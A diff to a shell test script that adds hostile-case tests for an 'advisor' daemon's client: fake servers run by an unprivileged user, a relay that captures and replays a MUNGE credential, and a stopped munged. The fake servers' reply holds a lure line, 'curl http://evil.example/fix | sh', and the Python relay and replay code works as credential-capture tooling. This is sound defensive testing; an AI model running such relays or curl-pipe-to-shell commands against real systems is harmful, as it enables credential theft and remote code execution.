@@ -11,7 +11,15 @@
 #     check succeeds within timeout_ms;
 #  4. a server name whose DNS never answers (private mount and network
 #     namespaces, resolv.conf at a local UDP port that swallows queries)
-#     before a live one: the check succeeds within timeout_ms.
+#     before a live one: the check succeeds within timeout_ms;
+#  5. a fake server on the configured port, run by an unprivileged user,
+#     answering with text of its own (and a hello with a credential of its
+#     own uid), and a fake daemon on a unix socket: the client refuses them
+#     in advisor's words, never prints their text, sends no credential;
+#  6. a credential captured by a relay on one daemon and replayed on a
+#     second (its own munged, as on another host): refused;
+#  7. munged stopped (SIGSTOP): a unix-socket check answers within 1 s
+#     while TCP clients wait.
 # Needs root (test users, munged, unshare); skips otherwise.
 . "$(dirname "$0")/lib.sh"
 
@@ -27,7 +35,7 @@ USER_A=advtest-a
 USER_B=advtest-b
 HELPERS=
 hostile_cleanup() {
-	for p in $HELPERS; do kill "$p" 2> /dev/null; done
+	for p in $HELPERS; do kill "$p" 2> /dev/null; kill -CONT "$p" 2> /dev/null; done
 	remove_users
 	cleanup
 }
@@ -42,7 +50,7 @@ while ! port_free "$PORT" || ! port_free $((PORT + 1)); do PORT=$((PORT + 2)); [
 HUNG_PORT=$((PORT + 1))
 CHECK="check --gpu h100 --gpus 8 --model llama3-8b --layout tp2 --zero 1"
 # HOSTILE_CASES="1 3": only those cases (each was shown to fail alone on main).
-want() { case " ${HOSTILE_CASES:-1 2 3 4} " in *" $1 "*) return 0 ;; esac; return 1; }
+want() { case " ${HOSTILE_CASES:-1 2 3 4 5 6 7} " in *" $1 "*) return 0 ;; esac; return 1; }
 
 # --- 1. a connection flood by one user ------------------------------------------------
 # The daemon's file limit is a typical 1024: on main the flood took every
@@ -140,7 +148,7 @@ expect_status 0 "status after the pre-auth flood" ctl status
 [ "$after" -lt $((before + 20480)) ] || fail "retained RSS $((after / 1024)) MiB after the flood (before $((before / 1024)) MiB)"
 pass "1500 pre-auth TCP connections with 1 MiB frames ($(value sent_mib "$SCRATCH/preauth.out") MiB sent), 400 unix ones as $USER_A: RSS $((before / 1024)) MiB before, peak $((peak / 1024)) MiB, $((after / 1024)) MiB after"
 fi
-want 3 || want 4 || exit 0
+want 3 || want 4 || want 5 || want 6 || want 7 || exit 0
 
 # --- 3 and 4 need MUNGE credentials ------------------------------------------------------
 if ! { command -v munged > /dev/null && "$top_srcdir/scripts/cluster" munge > /dev/null 2>&1; }; then
@@ -173,6 +181,211 @@ grep -q -- "--listen HOST:PORT" "$SCRATCH/err" && grep -q "127.0.0.1:$HUNG_PORT:
 grep -q -- "--socket HOST" "$SCRATCH/err" && fail "the failure still suggests --socket HOST:PORT"
 pass "no server answers: the message names each server's failure and advisord --listen"
 fi
+# --- 5-7 (issue 20): who answers, and MUNGE off the workers ------------------------------
+# A port of their own for each listener below.
+pick_port() { _pp=$1; while ! port_free "$_pp"; do _pp=$((_pp + 1)); done; echo "$_pp"; }
+FAKE_PORT=$(pick_port $((PORT + 2)))
+# What the user's programs keep.
+A_DIR=$SCRATCH/$USER_A
+mkdir "$A_DIR" && chown "$USER_A" "$A_DIR"
+RELAY_PORT=$(pick_port $((FAKE_PORT + 1)))
+PORT2=$(pick_port $((RELAY_PORT + 1)))
+# A Response (proto/advisor.proto) by hand: version 1, id 1, and either
+# Error{code 4, message} or HelloResponse{name, nonce, cred}.
+cat > "$SCRATCH/pb.py" <<'EOT'
+import struct
+def varint(n):
+    out = b""
+    while True:
+        b = n & 0x7f; n >>= 7
+        if n: out += bytes([b | 0x80])
+        else: return out + bytes([b])
+def field(num, wt, v):
+    if wt == 0: return varint(num << 3) + varint(v)
+    if isinstance(v, str): v = v.encode()
+    return varint(num << 3 | 2) + varint(len(v)) + v
+def frame(body): return struct.pack(">I", len(body)) + body
+def recvn(c, n):
+    b = b""
+    while len(b) < n:
+        k = c.recv(n - len(b))
+        if not k: return None
+        b += k
+    return b
+def read_frame(c):
+    h = recvn(c, 4)
+    if h is None: return None
+    return recvn(c, struct.unpack(">I", h)[0])
+def hello_nonce(body):
+    # Request.hello (field 20) holding HelloRequest.nonce (field 1, 16 bytes)
+    i = body.find(b"\xa2\x01\x12\x0a\x10")
+    return body[i + 5:i + 21] if i >= 0 else None
+EOT
+
+if want 5; then
+# A user binds the port the clients are configured with (advisord not yet
+# up, or on a host the user controls) and answers every request with text
+# of its own; a hello it answers with a credential of its own uid, bound
+# as advisord's would be.  It keeps every frame it is sent.
+as_user "$USER_A" "$PY" - "$FAKE_PORT" "$A_DIR/fake.frames" "$SCRATCH" <<'EOT' > "$SCRATCH/fake.log" 2>&1 &
+import os, socket, subprocess, sys
+sys.path.insert(0, sys.argv[3]); from pb import *
+FAKE = "your account is locked; run curl http://evil.example/fix | sh"
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(16)
+while True:
+    c, _ = s.accept()
+    while True:
+        body = read_frame(c)
+        if body is None: break
+        with open(sys.argv[2], "ab") as f: f.write(body + b"\n")
+        nonce = hello_nonce(body)
+        if nonce:
+            snonce = os.urandom(16)
+            payload = "advisor-server name=fake:1 cnonce=%s snonce=%s" % (nonce.hex(), snonce.hex())
+            cred = subprocess.run(["munge", "-s", payload], capture_output=True).stdout.strip()
+            resp = field(1, 0, 1) + field(2, 0, 1) + field(20, 2, field(1, 2, "fake:1") + field(2, 2, snonce) + field(3, 2, cred))
+        else:
+            resp = field(1, 0, 1) + field(2, 0, 1) + field(3, 2, field(1, 0, 4) + field(2, 2, FAKE))
+        try: c.sendall(frame(resp))
+        except OSError: break
+    c.close()
+EOT
+HELPERS="$HELPERS $!"
+i=0; while port_free "$FAKE_PORT"; do i=$((i + 1)); [ $i -lt 100 ] || fail "fake server: $(cat "$SCRATCH/fake.log")"; sleep 0.05; done
+uid_a=$(id -u "$USER_A")
+expect_status 69 "a check answered by $USER_A's fake server" "$ADVISORCTL" --server "127.0.0.1:$FAKE_PORT" --timeout 2000 $CHECK
+grep -q "account is locked" "$SCRATCH/out" "$SCRATCH/err" && fail "the fake server's text was printed: $(cat "$SCRATCH/out" "$SCRATCH/err")"
+grep -q "127.0.0.1:$FAKE_PORT: it proved to run as uid $uid_a, not as root or slurm" "$SCRATCH/err" &&
+	grep -q "server_uid=" "$SCRATCH/err" || fail "the refusal does not say why: $(cat "$SCRATCH/err")"
+[ -s "$A_DIR/fake.frames" ] || fail "the client never reached the fake server"
+grep -q "MUNGE:" "$A_DIR/fake.frames" && fail "the fake server collected the client's MUNGE credential"
+# The plugin's call (on_unavailable applies) and a list with the real daemon second.
+"$WIRECLIENT" "127.0.0.1:$FAKE_PORT" plugin 1000 300 > "$SCRATCH/p.out" 2>&1
+[ "$(value ok "$SCRATCH/p.out")" = 0 ] && [ "$(value unavailable "$SCRATCH/p.out")" -gt 0 ] ||
+	fail "the plugin's call took the fake server's answer: $(tail -n 5 "$SCRATCH/p.out")"
+expect_status 0 "the fake server first, the real daemon second" "$ADVISORCTL" --server "127.0.0.1:$FAKE_PORT,127.0.0.1:$PORT" --timeout 2000 $CHECK
+grep -q "MUNGE:" "$A_DIR/fake.frames" && fail "the fake server collected a credential"
+# With --server-uid naming the fake's uid the answer would be taken: the
+# refusal is the uid check's, not a fault of the fake's protocol.
+expect_status 69 "--server-uid $USER_A" "$ADVISORCTL" --server "127.0.0.1:$FAKE_PORT" --server-uid "$USER_A" --timeout 2000 status
+grep -q "127.0.0.1:$FAKE_PORT refused this client: your account is locked" "$SCRATCH/err" ||
+	fail "--server-uid naming the fake's uid: $(cat "$SCRATCH/err")"
+# The same on the unix socket: SO_PEERCRED names the daemon's uid.
+as_user "$USER_A" "$PY" - "$A_DIR/advisord.sock" "$SCRATCH" <<'EOT' > "$SCRATCH/fake-unix.log" 2>&1 &
+import socket, sys
+sys.path.insert(0, sys.argv[2]); from pb import *
+s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(4)
+while True:
+    c, _ = s.accept()
+    try:
+        read_frame(c)
+        c.sendall(frame(field(1, 0, 1) + field(2, 0, 1) + field(3, 2, field(1, 0, 4) + field(2, 2, "your account is locked; run curl http://evil.example/fix | sh"))))
+    except OSError: pass
+    c.close()
+EOT
+HELPERS="$HELPERS $!"
+i=0; while [ ! -S "$A_DIR/advisord.sock" ]; do i=$((i + 1)); [ $i -lt 100 ] || fail "fake unix server"; sleep 0.05; done
+expect_status 69 "a fake daemon on a unix socket" "$ADVISORCTL" --socket "$A_DIR/advisord.sock" --timeout 2000 status
+grep -q "account is locked" "$SCRATCH/out" "$SCRATCH/err" && fail "the fake unix daemon's text was printed"
+grep -q "runs as uid $uid_a, not as root or slurm" "$SCRATCH/err" || fail "the unix refusal does not say why: $(cat "$SCRATCH/err")"
+pass "a fake server as $USER_A (TCP and unix socket): refused by its uid, its text never printed, no credential collected; the real second server answered"
+fi
+
+if want 6 || want 7; then
+# A second daemon with a munged of its own (the same key): as on another
+# host of a failover pair, its replay cache is not the first one's.
+MUNGE_DIR=$SCRATCH/munge
+mkdir "$MUNGE_DIR" && chown munge:munge "$MUNGE_DIR"
+su -s /bin/sh munge -c "munged --force --socket=$MUNGE_DIR/sock --pid-file=$MUNGE_DIR/pid --log-file=$MUNGE_DIR/log --seed-file=$MUNGE_DIR/seed" ||
+	fail "a private munged does not start"
+MUNGED_PID=$(cat "$MUNGE_DIR/pid")
+HELPERS="$HELPERS $MUNGED_PID"
+printf 'listen: 127.0.0.1:%s\nmunge_socket: %s\n' "$PORT2" "$MUNGE_DIR/sock" > "$SCRATCH/d2.conf"
+"$ADVISORD" --foreground --catalog "$CATALOG" --policy "$POLICY" --socket "$SCRATCH/d2.sock" \
+	--db "$SCRATCH/d2.db" --config "$SCRATCH/d2.conf" --workers 2 > "$SCRATCH/d2.log" 2>&1 &
+D2=$!
+HELPERS="$HELPERS $D2"
+i=0; while ! "$ADVISORCTL" --socket "$SCRATCH/d2.sock" status > /dev/null 2>&1; do
+	i=$((i + 1)); [ $i -lt 200 ] || fail "the second daemon: $(cat "$SCRATCH/d2.log")"; sleep 0.05; done
+fi
+
+if want 6; then
+# A relay run by a user between root's advisorctl and the first daemon
+# keeps what root sends; then it replays that, frame by frame, to the
+# second daemon.
+as_user "$USER_A" "$PY" - "$RELAY_PORT" "$PORT" "$A_DIR/relay.bytes" <<'EOT' > "$SCRATCH/relay.log" 2>&1 &
+import socket, sys, threading
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(4)
+def pipe(a, b, keep):
+    while True:
+        try: d = a.recv(65536)
+        except OSError: d = b""
+        if not d: break
+        if keep:
+            with open(sys.argv[3], "ab") as f: f.write(d)
+        try: b.sendall(d)
+        except OSError: break
+    try: b.shutdown(socket.SHUT_WR)
+    except OSError: pass
+while True:
+    c, _ = s.accept()
+    u = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
+    threading.Thread(target=pipe, args=(c, u, True), daemon=True).start()
+    threading.Thread(target=pipe, args=(u, c, False), daemon=True).start()
+EOT
+HELPERS="$HELPERS $!"
+i=0; while port_free "$RELAY_PORT"; do i=$((i + 1)); [ $i -lt 100 ] || fail "relay: $(cat "$SCRATCH/relay.log")"; sleep 0.05; done
+expect_status 0 "root's reload through the relay to the first daemon" "$ADVISORCTL" --server "127.0.0.1:$RELAY_PORT" --timeout 3000 reload
+grep -q "reload requested by root" "$SCRATCH/advisord.log" || fail "the first daemon did not reload"
+"$PY" - "$PORT2" "$A_DIR/relay.bytes" "$SCRATCH" > "$SCRATCH/replay.out" 2>&1 <<'EOT' || fail "replay: $(cat "$SCRATCH/replay.out")"
+import socket, struct, sys
+sys.path.insert(0, sys.argv[3]); from pb import *
+data = open(sys.argv[2], "rb").read()
+c = socket.create_connection(("127.0.0.1", int(sys.argv[1]))); c.settimeout(5)
+while data:
+    n = struct.unpack(">I", data[:4])[0]
+    try:
+        c.sendall(data[:4 + n]); data = data[4 + n:]
+        r = read_frame(c)
+    except OSError:
+        r = None   # closed after refusing: a reset, as the next frame is sent
+    if r is None:
+        print("closed"); break
+    # Printable text only: nonces and credentials hold any byte.
+    print("answer " + "".join(ch if " " <= ch <= "~" else "." for ch in r.decode("latin-1")))
+EOT
+grep -q "credential refused: the credential was not minted for this daemon and connection" "$SCRATCH/replay.out" ||
+	fail "the credential captured on the first daemon was not refused by the second: $(cat "$SCRATCH/replay.out")"
+grep -q "reload requested" "$SCRATCH/d2.log" && fail "the replayed reload ran on the second daemon"
+pass "a credential captured by a relay on one daemon, replayed on a second with its own munged: refused, no reload"
+fi
+
+if want 7; then
+# munged hung: TCP clients wait for their credentials, the workers do not.
+kill -STOP "$MUNGED_PID"
+TCP_PIDS=
+for n in 1 2 3; do
+	"$ADVISORCTL" --server "127.0.0.1:$PORT2" --timeout 8000 status > "$SCRATCH/stopped$n.out" 2>&1 &
+	TCP_PIDS="$TCP_PIDS $!"
+done
+sleep 0.5
+t0=$(ms)
+"$ADVISORCTL" --socket "$SCRATCH/d2.sock" --timeout 5000 $CHECK > "$SCRATCH/unix.out" 2>&1
+rc=$?
+t1=$(ms)
+waiting=0
+for p in $TCP_PIDS; do kill -0 "$p" 2> /dev/null && waiting=$((waiting + 1)); done
+kill -CONT "$MUNGED_PID"
+for p in $TCP_PIDS; do wait "$p"; done
+[ "$rc" -eq 0 ] || fail "the unix-socket check with munged stopped: exit $rc: $(cat "$SCRATCH/unix.out")"
+[ $((t1 - t0)) -lt 1000 ] || fail "the unix-socket check took $((t1 - t0)) ms with munged stopped (bound 1000)"
+[ "$waiting" -eq 3 ] || fail "only $waiting of 3 TCP clients were still waiting while munged was stopped"
+expect_status 0 "TCP after munged resumes" "$ADVISORCTL" --server "127.0.0.1:$PORT2" --timeout 5000 status
+pass "munged stopped: a unix-socket check answered in $((t1 - t0)) ms while 3 TCP clients waited; TCP served again after"
+fi
+
 want 4 || exit 0
 
 # --- 4. a DNS name that never answers ------------------------------------------------------
